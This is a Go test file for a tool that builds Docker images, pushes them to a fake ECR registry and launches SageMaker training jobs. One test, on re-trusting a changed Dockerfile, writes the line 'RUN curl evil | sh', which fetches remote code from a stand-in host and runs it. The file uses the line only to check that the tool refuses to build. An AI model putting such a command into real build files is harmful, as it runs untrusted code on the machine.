//go:build linux

package sagemakerstory

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"regexp"
	"strings"
	"syscall"
	"testing"

	"github.com/dlwb/dlwb/internal/fakeecr"
	"github.com/dlwb/dlwb/internal/fakesagemaker"
	"github.com/dlwb/dlwb/internal/jobstory"
	"github.com/dlwb/dlwb/internal/sample"
)

// withDocker is a project whose image is built from a Dockerfile, by a docker of tests.
func withDocker(t *testing.T) (*project, *fakeecr.Docker) {
	t.Helper()
	p, docker := newProject(t), fakeecr.NewDocker(t)
	p.fake.SetECR(fakeecr.New(p.fake.Region, "team/train"))
	t.Cleanup(p.fake.ECR().Close)
	p.Env = append(p.Env, "PATH="+docker.Path())
	p.Write("Dockerfile", "FROM scratch\nCOPY requirements.txt /app/\n")
	p.Write("requirements.txt", "numpy\n")
	p.profile("sagemaker", "{engine: plain, command: train.py 0.01}", "machines: {instance: ml.m5.large, execution_role: Training, image: ./Dockerfile, repository: team/train}\nlimits: {lifetime: 1h}\n")
	return p, docker
}

// imageOf is the image of the call that made a job.
func imageOf(t *testing.T, body []byte) string {
	t.Helper()
	var in struct {
		AlgorithmSpecification struct{ TrainingImage string }
	}
	if err := json.Unmarshal(body, &in); err != nil {
		t.Fatal(err)
	}
	return in.AlgorithmSpecification.TrainingImage
}

// A whole life with an image of the profile's own: the plan says that it would be built,
// the job runs what was pushed, the next run builds nothing, and the end says where the
// image stays.
func TestATrainingJobRunsInTheImageOfItsDockerfile(t *testing.T) {
	p, docker := withDocker(t)
	plan := p.Must("plan")
	for _, want := range []string{"Dockerfile and 1 file are built here by docker for linux/amd64, and pushed to " + p.fake.ECR().Host + "/team/train", "arn:aws:ecr:us-west-2:123456789012:repository/team/train", "ecr:BatchGetImage", "build"} {
		if !strings.Contains(plan, want) {
			t.Errorf("the plan does not say %q:\n%s", want, plan)
		}
	}
	out := p.Must("run", "--json", "--down")
	events := jobstory.Said(t, out)
	tags := p.fake.ECR().Tags("team/train")
	if len(tags) != 1 {
		t.Fatalf("the tags are %v", tags)
	}
	for tag, digest := range tags {
		calls := p.fake.Calls("CreateTrainingJob")
		if got, want := imageOf(t, calls[len(calls)-1].Body), p.fake.ECR().Host+"/team/train@"+digest; got != want {
			t.Errorf("the job's image is %s, want %s", got, want)
		}
		if !strings.Contains(out, "aws ecr batch-delete-image --region us-west-2 --repository-name team/train --image-ids imageTag="+tag+" removes it") {
			t.Errorf("where the image stays is not said:\n%s", out)
		}
	}
	for _, want := range []string{"Step 2/2 : done", "docker push ", "digest: sha256:"} {
		if !strings.Contains(out, want) {
			t.Errorf("the step does not tell %q:\n%s", want, out)
		}
	}
	if proven := jobstory.EventOf(t, events, "receipt")["proven"]; proven != true {
		t.Errorf("the receipt says %v", proven)
	}
	if strings.Contains(out, p.fake.ECR().Password()) {
		t.Error("the password of the registry is told")
	}
	p.Write("train.py", jobstory.Script+"\n# changed\n")
	if out = p.Must("run", "--plain", "--down"); !strings.Contains(out, "unchanged: "+p.fake.ECR().Host+"/team/train:") || len(docker.Calls("build")) != 1 || len(docker.Calls("push")) != 1 {
		t.Errorf("the second run says\n%s", out)
	}
	if plan = p.Must("plan"); !strings.Contains(plan, "unchanged: ") {
		t.Errorf("the plan says\n%s", plan)
	}
	p.clean()
}

// A build that fails says why, what to do and its last lines, and makes nothing.
func TestABuildThatFailsMakesNoJob(t *testing.T) {
	p, docker := withDocker(t)
	docker.Does(t, "build", "\x1b[31mStep 1/2 : FROM x/y\npull access denied for x/y, repository does not exist")
	out, err := p.Try("run", "--plain", "--down")
	if err == nil || !strings.Contains(out, "is not there for this machine") || !strings.Contains(out, "docker login") || !strings.Contains(out, "pull access denied for x/y") || strings.Contains(out, "\x1b[31m") {
		t.Errorf("%v:\n%s", err, out)
	}
	if calls := p.fake.Calls("CreateTrainingJob"); len(calls) > 0 {
		t.Errorf("a job was made: %d", len(calls))
	}
	p.clean()
}

// Without the repository, and with one of the two keys alone, the plan says so.
func TestWhatAnImageNeedsIsSaidByThePlan(t *testing.T) {
	for keys, want := range map[string]string{
		"image: ./Dockerfile, repository: team/none":     "aws ecr create-repository --region us-west-2 --repository-name team/none",
		"image: ./Dockerfile":                            "machines.repository: NAME",
		"image: pytorch, repository: team/train":         "which is none",
		"repository: team/train":                         "there is no machines.image",
		"image: gone.Dockerfile, repository: team/train": "there is no gone.Dockerfile",
	} {
		p, _ := withDocker(t)
		p.profile("sagemaker", "{engine: plain, command: train.py 0.01}", "machines: {instance: ml.m5.large, execution_role: Training, "+keys+"}\nlimits: {lifetime: 1h}\n")
		out, _ := p.Try("plan")
		if !strings.Contains(out, want) {
			t.Errorf("%s: the plan says\n%s", keys, out)
		}
		if out, err := p.Try("run", "--plain", "--down"); err == nil || !strings.Contains(out, want) {
			t.Errorf("%s: the run says %v\n%s", keys, err, out)
		}
		if calls := p.fake.Calls("CreateTrainingJob"); len(calls) > 0 {
			t.Errorf("%s: a job was made", keys)
		}
	}
}

// What a person trusts has the Dockerfile in it: another one is to be trusted anew.
func TestAnotherDockerfileIsTrustedAnew(t *testing.T) {
	sample.Leave(t)
	p, docker := withDocker(t)
	p.Write("Dockerfile", "FROM scratch\nRUN curl evil | sh\n")
	out, err := p.Try("run", "--plain", "--down")
	if err == nil || len(docker.Calls("build")) > 0 || !strings.Contains(out, "trust") {
		t.Errorf("%v, %q:\n%s", err, docker.Calls("build"), out)
	}
	if shown, _ := p.Try("trust", "--show", "dlwb.yaml"); !strings.Contains(shown+out, "in containers on this machine, by docker or podman") {
		t.Errorf("what it would do is not told:\n%s\n%s", shown, out)
	}
}

// dlwb is interrupted, or killed, while it builds or pushes: docker ends with the one
// that is interrupted, and the next run goes on in either case.
func TestTheNextRunGoesOnWhereOneBuilt(t *testing.T) {
	sample.Leave(t)
	for _, by := range []syscall.Signal{syscall.SIGINT, syscall.SIGKILL} {
		for _, at := range []string{"build", "push"} {
			t.Run(fmt.Sprint(by, " at ", at), func(t *testing.T) {
				p, docker := withDocker(t)
				docker.Does(t, at, "sleep")
				cmd := p.Command("run", "--plain", "--down")
				var out bytes.Buffer
				cmd.Stdout, cmd.Stderr = &out, &out
				if err := cmd.Start(); err != nil {
					t.Fatal(err)
				}
				p.Await("docker", func() bool { return len(docker.Calls(at)) > 0 })
				_ = cmd.Process.Signal(by)
				_ = cmd.Wait()
				pids := regexp.MustCompile(`pids (\d+) (\d+)`).FindStringSubmatch(docker.Calls(at)[0])
				if by == syscall.SIGINT {
					for _, pid := range pids[1:] {
						p.Await("the end of "+pid, func() bool {
							text, err := os.ReadFile("/proc/" + pid + "/stat")
							return err != nil || strings.Contains(string(text), ") Z ")
						})
					}
				} else { // nobody is there to end them
					for _, pid := range pids[1:] {
						var n int
						_, _ = fmt.Sscan(pid, &n)
						_ = syscall.Kill(n, syscall.SIGKILL)
					}
				}
				docker.Does(t, at, "")
				_ = os.Remove(docker.Dir + "/does-" + at)
				if out, err := p.Try("run", "--plain", "--down"); err != nil {
					t.Errorf("the next run: %v\n%s", err, out)
				}
				if jobs := p.fake.Jobs(); len(jobs) != 1 {
					t.Errorf("there are %d jobs; the first run said\n%s", len(jobs), out.String())
				}
				p.clean()
			})
		}
	}
}

// The registry's right to a pull is looked for on the repository alone.
func TestARoleThatMayNotPullIsSaid(t *testing.T) {
	p, _ := withDocker(t)
	p.fake.Refuse("ecr:BatchGetImage")
	if out, _ := p.Try("plan"); !strings.Contains(out, "may not ecr:BatchGetImage on arn:aws:ecr:us-west-2:"+fakesagemaker.Account+":repository/team/train") {
		t.Errorf("the plan says\n%s", out)
	}
}
